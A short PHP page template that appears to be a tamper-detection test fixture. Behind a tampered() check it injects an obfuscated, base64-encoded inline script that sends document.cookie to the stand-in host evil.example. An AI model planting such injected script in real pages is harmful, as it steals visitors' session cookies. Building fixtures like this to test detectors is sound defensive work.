<?php
// Altered: an obfuscated inline script.
require __DIR__ . '/common.php';
head('Page E');
echo shop_text();
if (tampered()) {
    $payload = base64_encode(str_repeat("document.location='http://evil.example/?c='+document.cookie;", 3));
    echo "<script>eval(atob('$payload'));</script>";
}
echo "</body></html>";
